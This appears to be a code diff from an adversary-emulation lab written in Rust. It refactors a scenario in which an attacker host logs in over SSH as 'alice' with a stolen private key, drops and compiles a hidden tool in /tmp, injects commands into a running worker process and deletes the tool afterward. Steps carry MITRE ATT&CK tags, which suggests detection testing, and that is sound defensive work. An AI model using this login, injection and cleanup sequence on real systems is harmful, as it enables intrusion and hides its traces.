@@ -3,7 +3,7 @@
 //! Hard because: what is done then is done by a process that was there long before, below another parent; a compiler is at home there.
 
 use crate::Lab;
-use crate::life::remote::{self, OPTIONS, make_key, quoted};
+use crate::life::remote::{self, Thief, make_key, quoted};
 use crate::life::{compile, host_tasks, web};
 use crate::program::{Program, user};
 use anyhow::{Result, ensure};
@@ -27,10 +27,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
     lab.wait(10..18);
 
     let attack = lab.attack("injection into a worker");
-    let log_in = |commands: &str| {
-        let line = format!("ssh -i /root/.ssh/stolen {OPTIONS} alice@{} {}", host.address, quoted(commands));
-        attacker.run("attack.scope", &Program::shell(&line))
-    };
+    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "alice", to: &host };
     let tool = format!("/tmp/.{}", lab.word(6));
     let step = attack.step("a tool is brought and built", &["T1078.003", "T1027.004", "T1057"]);
     step.remote(&host, &attacker);
@@ -42,7 +39,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
         step.mark(&host)?,
         quoted(INJECT)
     );
-    let said = log_in(&build)?;
+    let said = thief.log_in(&build)?;
     let worker = said.lines().find_map(|line| line.trim().parse::<u32>().ok());
     ensure!(worker.is_some(), "the worker was not found: {said}");
     drop(step);
@@ -57,7 +54,7 @@ pub fn run(lab: &mut Lab) -> Result<()> {
         next.mark(&host)?
     );
     let worker = worker.unwrap_or_default();
-    log_in(&format!("{} {tool} {worker} {}; rm {tool} {tool}.c", step.mark(&host)?, quoted(&commands)))?;
+    thief.log_in(&format!("{} {tool} {worker} {}; rm {tool} {tool}.c", step.mark(&host)?, quoted(&commands)))?;
     drop(step);
     next.remote(&host, &attacker);
     next.file(&host, &done);
